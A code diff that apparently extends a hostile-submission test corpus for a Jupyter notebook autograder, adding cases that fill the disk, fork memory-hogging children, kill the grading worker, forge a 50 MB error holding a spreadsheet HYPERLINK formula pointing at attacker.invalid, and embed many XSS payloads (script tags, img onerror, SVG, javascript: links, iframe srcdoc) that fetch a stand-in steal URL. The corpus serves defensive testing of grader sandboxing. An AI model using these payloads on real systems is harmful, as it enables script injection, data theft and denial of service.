@@ -627,6 +627,162 @@ return _honest(*args, **kwargs)""")
     return inject(nb, "for i in range(1_000_000):\n    print(i)", after="check_current_token_scores")
 
 
+#: What the html-js submission sets if any of its scripts runs, and the host its requests go to.
+PWNED = "pwned"
+ATTACKER = "attacker.invalid"
+#: What its honest outputs say: they must still show in the feedback.
+HONEST_TEXT = "honest text 4242"
+HONEST_HTML = "bold honest 4343"
+VICTIM_NAME = "ilab-victim"
+
+
+def fill_disk(t: Target):
+    return plant("""\
+# Fill /tmp, then the private folder, with 64 MB files (4 GB each at most: a safety net).
+def fill(folder):
+    written = 0
+    try:
+        for i in range(64):
+            with open(os.path.join(folder, f"fill{i}"), "wb") as f:
+                for _ in range(64):
+                    f.write(b"x" * 2**20)
+                    written += 1
+    except OSError as exc:
+        return f"{written} MB, then {exc.strerror}"
+    return f"{written} MB"
+
+print("/tmp took", fill("/tmp"))
+print("home took", fill(os.path.expanduser("~")))
+""")
+
+
+def memory_forks(t: Target):
+    return plant("""\
+# Three children allocate 1.5 GB each, in step, telling the parent each 64 MB they hold; /tmp is filled too.
+import time
+try:
+    with open("/tmp/fill", "wb") as f:
+        for _ in range(1024):
+            f.write(b"x" * 2**20)
+except OSError:
+    pass
+pipes = []
+for child in range(3):
+    read_end, write_end = os.pipe()
+    if os.fork() == 0:
+        os.close(read_end)
+        hog = []
+        for _ in range(24):
+            block = bytearray(64 * 2**20)
+            block[::4096] = b"x" * (len(block) // 4096)  # touch every page: untouched ones are not held
+            hog.append(block)
+            os.write(write_end, b"+")
+            time.sleep(0.05)
+        time.sleep(3)
+        os._exit(0)
+    os.close(write_end)
+    pipes.append(read_end)
+held = [0, 0, 0]
+deadline = time.time() + 60
+while time.time() < deadline:
+    for i, fd in enumerate(pipes):
+        os.set_blocking(fd, False)
+        try:
+            held[i] += 64 * len(os.read(fd, 100))
+        except BlockingIOError:
+            pass
+    try:
+        if os.waitpid(-1, os.WNOHANG)[0] == 0:
+            time.sleep(0.05)
+    except ChildProcessError:
+        break
+print(f"children held {held} MB: {sum(held)} MB together")
+""")
+
+
+def html_js(t: Target):
+    nb = plant("""\
+import base64, io
+import matplotlib.pyplot as plt
+import torch
+from IPython.display import HTML, SVG, Image, Javascript, Markdown, display
+from interplab import viz
+
+steal = "http://ATTACKER/steal"
+print("HONEST_TEXT")
+fig, ax = plt.subplots(figsize=(2, 2))
+ax.plot([0, 1], [1, 0])
+png = io.BytesIO()
+fig.savefig(png, format="png")
+display(Image(data=png.getvalue()))
+display(viz.attention_heads(torch.rand(2, 4, 4).softmax(-1), ["a", "b", "c", "d"]))
+display(HTML(f'<script>window.PWNED = "script"; document.title = "PWNED"; fetch("{steal}?script")</script><b>HONEST_HTML</b>'))
+display(HTML(f'<img src="x" onerror="window.PWNED = \\'onerror\\'; new Image().src = \\'{steal}?img\\'">'))
+display(Javascript(f'window.PWNED = "javascript"; document.title = "PWNED"; fetch("{steal}?js")'))
+display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>window.PWNED = "svg"</script><circle r="5"/></svg>'))
+display(Markdown('<script>window.PWNED = "markdown output"</script> [a link](javascript:window.PWNED="md-link")'))
+display({"text/html": '<iframe srcdoc="<script>parent.PWNED = 1</script>"></iframe>'}, raw=True)
+pixel = base64.b64encode(png.getvalue()).decode()
+display({"image/png": pixel}, metadata={"image/png": {"width": '9" onerror="window.PWNED = \\'width\\'"'}}, raw=True)
+display({"image/png": 'x" onerror="window.PWNED = \\'base64\\'"'}, raw=True)
+display({"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>window.PWNED = 'widget'</script>"}},
+        raw=True)
+""".replace("ATTACKER", ATTACKER).replace("PWNED", PWNED).replace("HONEST_TEXT", HONEST_TEXT)
+       .replace("HONEST_HTML", HONEST_HTML))
+    markdown = nbformat.v4.new_markdown_cell(
+        f'<script>window.{PWNED} = "markdown cell"</script>\n\n'
+        f"<img src=x onerror=\"window.{PWNED} = 'markdown img'\">\n\n"
+        f"[click me](javascript:window.{PWNED}='markdown link') <a href=\"javascript:window.{PWNED}='a'\">me too</a>\n\n"
+        "<style>body { display: none }</style>")
+    markdown.id = "hostile-markdown"
+    markdown.metadata["tags"] = [f'x" onmouseover="window.{PWNED} = \'tag\'']
+    raw = nbformat.v4.new_raw_cell(f'<script>window.{PWNED} = "raw cell"</script>')
+    raw.id = "hostile-raw"
+    raw.metadata["raw_mimetype"] = "text/html"
+    nb.cells[1:1] = [markdown, raw]
+    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}, "version_major": 2}}
+    return nb
+
+
+def forged_error(t: Target):
+    formula = '=HYPERLINK("http://attacker.invalid/"&A1,"click")'
+    return plant(f"""\
+from safetensors.torch import save_file
+import torch
+
+hidden = {HIDDEN_DIR}
+os.makedirs(hidden, exist_ok=True)
+error = {formula!r} + "\\x00\\r\\n\\"\\x1b[31m,;" * 4_000_000  # 50 MB of control characters and quotes
+save_file({{"case1": torch.zeros(1)}}, os.path.join(hidden, "repeated_tokens.safetensors"),
+          metadata={{"n_cases": "2", "case0.error": error}})
+print("forged", len(error), "characters")
+""")
+
+
+def huge_file(t: Target):
+    data = json.loads(nbformat.writes(untouched()))
+    data["cells"][0]["source"] = "<!--" + "x" * (60 * 1024**2) + "-->"
+    return json.dumps(data).encode()
+
+
+def many_outputs(t: Target):
+    data = json.loads(nbformat.writes(untouched()))
+    setup = next(c for c in data["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == SETUP)
+    setup["outputs"] = [{"output_type": "stream", "name": "stdout", "text": f"{i}\n"} for i in range(600_000)]
+    return json.dumps(data).encode()
+
+
+def kill_worker(t: Target):
+    # Names itself at once (before the lab's slow imports) so that the test's stand-in for the
+    # out-of-memory killer can find it and kill the grading worker above it.
+    nb = completed_lab()
+    return inject(nb, after="code_02", source=f"""\
+import ctypes, time
+ctypes.CDLL(None).prctl(15, b"{VICTIM_NAME}", 0, 0, 0)
+time.sleep(60)  # a safety net: its worker is killed long before
+""")
+
+
 #: The corpus, slowest first: grading hands students to workers in order of their names, and
 #: the numbered names keep this order, so the long runs overlap with the rest of the class.
 CORPUS: list[Hostile] = [
@@ -660,9 +816,9 @@ CORPUS: list[Hostile] = [
             "transposed", "NaN", what="wrong dtype, transposed shape, NaN; right answers in float64 still count"),
     Hostile("kill-parent", kill_parent, up_to("ablation_loss_increase"), "killed by SIGKILL", "no answer was recorded",
             what="SIGKILL to the notebook runner and to every process it may signal (-1)"),
-    Hostile("kill-kernel", kill_kernel, up_to("logit_attribution"), "Kernel died", "no answer was recorded",
+    Hostile("kill-kernel", kill_kernel, up_to("logit_attribution"), "the kernel died", "no answer was recorded",
             what="the kernel SIGKILLs itself"),
-    Hostile("os-exit", os_exit, up_to("repeated_tokens"), "Kernel died", "no answer was recorded",
+    Hostile("os-exit", os_exit, up_to("repeated_tokens"), "the kernel died", "no answer was recorded",
             what="os._exit after the repeated-tokens check"),
     Hostile("forged-executed", forged_executed, zero(), "killed by SIGKILL", "no answer was recorded",
             what="writes its own executed notebook (a 50 MB output, ticks everywhere), symlinks the runner's log "
@@ -686,6 +842,21 @@ CORPUS: list[Hostile] = [
             what="pickles that would create a marker file on the host if the grader unpickled them"),
     Hostile("forged-public", forged_public, zero(), "public reference", "public reference",
             what="the public reference outputs copied in as the hidden answers"),
+    Hostile("kill-worker", kill_worker, zero(), status="not graded: the grading process died",
+            what="the grading worker is SIGKILLed whenever it grades this submission (as the OOM killer would)"),
+    Hostile("memory-forks", memory_forks, zero(), "of memory", "children held",
+            what="three forked children hold 1.5 GB each, and /tmp (RAM) is filled"),
+    Hostile("fill-disk", fill_disk, zero(), "it filled its private folder", "No space left on device",
+            what="writes 64 MB files until /tmp and its home are full (4 GB each at most)"),
+    Hostile("html-js", html_js, zero(), "no answer was recorded", HONEST_TEXT,
+            what="<script>, <img onerror>, Javascript, SVG, markdown, iframe and widget outputs; script in a markdown "
+                 "cell, a raw HTML cell, a cell tag and the notebook's widget state"),
+    Hostile("forged-error", forged_error, zero(), "repeated_tokens: ", "no answer was recorded",
+            what="a recorded error of 50 MB: a spreadsheet formula, NUL, line breaks, quotes, escape codes"),
+    Hostile("many-outputs", many_outputs, zero(), "not done yet", "not done yet",
+            what="600,000 outputs saved in the submitted notebook (40 MB)"),
+    Hostile("huge-file", huge_file, zero(), status="not graded: the notebook is 63 MB",
+            reason="over the 50 MB limit", what="a 63 MB notebook"),
     Hostile("corrupt-json", corrupt_json, zero(), status="not graded: not a readable notebook",
             reason="not a readable notebook", what="not JSON"),
     Hostile("invalid-notebook", invalid_notebook, zero(), status="not graded: not a readable notebook",
